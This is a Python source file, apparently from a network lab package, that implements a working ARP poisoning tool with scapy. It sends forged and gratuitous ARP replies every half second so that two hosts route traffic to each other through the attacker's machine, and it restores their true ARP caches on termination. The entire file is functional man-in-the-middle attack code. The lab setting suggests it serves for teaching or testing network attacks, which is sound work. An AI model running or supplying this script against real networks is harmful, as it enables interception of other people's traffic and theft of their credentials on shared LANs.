"""The ARP poisoner, run as its own process inside the attacker's namespace (scapy sees that host's eth0).

    python -m lab.netlab.arp_poison IFACE ATTACKER_MAC IP_A MAC_A IP_B MAC_B

Tells A that B's address is at the attacker's MAC and B that A's is, with unsolicited ARP replies (and one
gratuitous announcement each at the start), every INTERVAL_S until SIGTERM; then restores both caches with
the true mappings before exiting. Prints "poisoning" once the first round is out.
"""

from __future__ import annotations

import signal
import sys
import time
from types import FrameType

INTERVAL_S = 0.5
RESTORE_ROUNDS = 3
BROADCAST = "ff:ff:ff:ff:ff:ff"


def main(argv: list[str]) -> int:
    from scapy.layers.l2 import ARP, Ether
    from scapy.sendrecv import sendp

    iface, attacker, ip_a, mac_a, ip_b, mac_b = argv
    stop = False

    def on_term(signum: int, frame: FrameType | None) -> None:
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)

    def reply(claim_ip: str, claim_mac: str, to_ip: str, to_mac: str) -> Ether:
        return Ether(src=attacker, dst=to_mac) / ARP(
            op=2, psrc=claim_ip, hwsrc=claim_mac, pdst=to_ip, hwdst=to_mac)

    gratuitous = [Ether(src=attacker, dst=BROADCAST) / ARP(op=2, psrc=ip, hwsrc=attacker, pdst=ip,
                                                          hwdst=BROADCAST) for ip in (ip_b, ip_a)]
    forged = [reply(ip_b, attacker, ip_a, mac_a), reply(ip_a, attacker, ip_b, mac_b)]
    sendp(gratuitous + forged, iface=iface, verbose=False)
    print("poisoning", flush=True)
    while not stop:
        time.sleep(INTERVAL_S)
        if not stop:
            sendp(forged, iface=iface, verbose=False)
    # Leave the network as it was: the true mappings, from the attacker's port (as arpspoof does).
    true = [Ether(src=attacker, dst=mac_a) / ARP(op=2, psrc=ip_b, hwsrc=mac_b, pdst=ip_a, hwdst=mac_a),
            Ether(src=attacker, dst=mac_b) / ARP(op=2, psrc=ip_a, hwsrc=mac_a, pdst=ip_b, hwdst=mac_b)]
    for _ in range(RESTORE_ROUNDS):
        sendp(true, iface=iface, verbose=False)
        time.sleep(0.05)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
